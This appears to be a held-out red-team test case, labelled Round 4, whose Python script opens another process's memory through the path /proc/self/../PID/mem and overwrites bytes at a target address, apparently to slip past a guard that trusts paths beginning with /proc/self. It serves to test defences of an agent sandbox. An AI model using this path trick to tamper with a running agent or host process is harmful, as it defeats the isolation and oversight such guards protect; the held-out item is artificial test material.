"""Round 4: write the agent's memory through /proc/self/../PID/mem (a path that starts at /proc/self).

The pid in the path is reached by walking up from the caller's own /proc
entry: the path names "self" first.
"""

from __future__ import annotations

import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 4
EXPECT = ("L5",)


def run(args: dict[str, Any]) -> None:
    pid = int(args["pid"])
    addr = rt.target_addr(args, pid)
    path = f"/proc/self/../{pid}/mem"
    t = rt.now()
    fd = os.open(path, os.O_RDWR)
    n = rt.rewrite_mem(fd, addr)
    rt.report(t, n == 32, f"{path}: wrote {n} bytes at {addr:#x}")


if __name__ == "__main__":
    rt.main(run, globals())
